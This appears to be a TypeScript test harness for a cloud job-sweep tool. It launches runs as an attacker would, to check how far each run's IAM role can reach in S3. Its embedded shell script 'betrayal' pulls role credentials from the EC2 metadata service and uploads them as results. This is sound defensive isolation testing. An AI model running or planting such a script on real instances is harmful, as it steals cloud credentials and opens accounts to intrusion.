import {
  DeleteObjectCommand,
  GetObjectCommand,
  ListObjectsV2Command,
  PutObjectCommand,
  S3Client,
} from '@aws-sdk/client-s3';
import type { Engine } from '../../../src/engine/engine';
import { Failure } from '../../../src/engine/failure';
import type { RunSettings } from '../../../src/sweep/run';
import { launched, requestFor, runOf, type World } from '../engine/world';
import { eventually } from '../local/harness';

/** Hands the credentials of its role over, as a script would that someone else has written, and continues running. */
const betrayal = `#!/bin/sh
imds=\${AWS_EC2_METADATA_SERVICE_ENDPOINT:-http://169.254.169.254}/latest
token=$(curl -s -X PUT -H 'X-aws-ec2-metadata-token-ttl-seconds: 600' "$imds/api/token")
ask() { curl -s -H "X-aws-ec2-metadata-token: $token" "$imds/meta-data/iam/security-credentials/$1"; }
mkdir -p /tmp/results
ask "$(ask '')" >/tmp/results/keys.json
spored upload /tmp/results/keys.json
sleep 600
`;

interface Credentials {
  readonly accessKeyId: string;
  readonly secretAccessKey: string;
  readonly sessionToken: string;
}

/** What S3 answers to an instance: the code of the error, or `ok`. */
export interface Captive {
  /** What its keys hold: \`AROA…:i-…\`. */
  readonly identity: string;
  readonly instanceId: string;
  /** Of its role. */
  readonly credentials: Credentials;
  put(key: string, body?: string, bucket?: string): Promise<string>;
  get(key: string): Promise<string>;
  remove(key: string): Promise<string>;
  list(prefix: string): Promise<string>;
}

export interface CapturedSweep {
  readonly id: string;
  readonly bucket: string;
  readonly captives: readonly Captive[];
}

/** Launches a sweep of so many runs, all of whose scripts are the attacker's. The cloud has to have processes. */
export async function captured(
  world: World,
  engine: Engine,
  size: number,
  settings: Partial<RunSettings> = {},
): Promise<CapturedSweep> {
  const runs = Array.from({ length: size }, (_, index) =>
    runOf(index, { userData: betrayal, onComplete: 'keep', ...settings }),
  );
  const { id, view } = await launched(engine, requestFor({ name: 'captured', runs }));
  const bucket = view.bucket ?? '';
  const captives = view.runs.map(async ({ name, instanceId = '' }): Promise<Captive> => {
    const store = world.aws.store(bucket, 'us-east-1');
    const key = await eventually(async () => {
      for await (const object of store.list(`sweeps/${id}/runs/${name}/`))
        if (object.key.endsWith('/results/keys.json')) return object.key;
      return undefined;
    });
    const keys = JSON.parse((await store.readText(key)) ?? '{}');
    const identity = /spawn-instance=([^/]+)\//.exec(key)?.[1] ?? '';
    return captiveOf(world, bucket, identity, instanceId, {
      accessKeyId: String(keys.AccessKeyId),
      secretAccessKey: String(keys.SecretAccessKey),
      sessionToken: String(keys.Token),
    });
  });
  return { id, bucket, captives: await Promise.all(captives) };
}

function captiveOf(
  world: World,
  Bucket: string,
  identity: string,
  instanceId: string,
  credentials: Credentials,
): Captive {
  const { endpoint, region } = world.cloud;
  const s3 = new S3Client({ endpoint, region, credentials, forcePathStyle: true, maxAttempts: 1 });
  const answerOf = async (call: Promise<unknown>): Promise<string> => {
    try {
      await call;
      return 'ok';
    } catch (error) {
      return error instanceof Error ? error.name : String(error);
    }
  };
  return {
    identity,
    instanceId,
    credentials,
    put: (Key, Body = '{}', bucket = Bucket) =>
      answerOf(s3.send(new PutObjectCommand({ Bucket: bucket, Key, Body }))),
    get: (Key) => answerOf(s3.send(new GetObjectCommand({ Bucket, Key }))),
    remove: (Key) => answerOf(s3.send(new DeleteObjectCommand({ Bucket, Key }))),
    list: (Prefix) => answerOf(s3.send(new ListObjectsV2Command({ Bucket, Prefix }))),
  };
}

export const failsWith =
  (code: string, ...patterns: readonly RegExp[]) =>
  (error: unknown): boolean =>
    error instanceof Failure && error.code === code && patterns.every((one) => one.test(error.message));
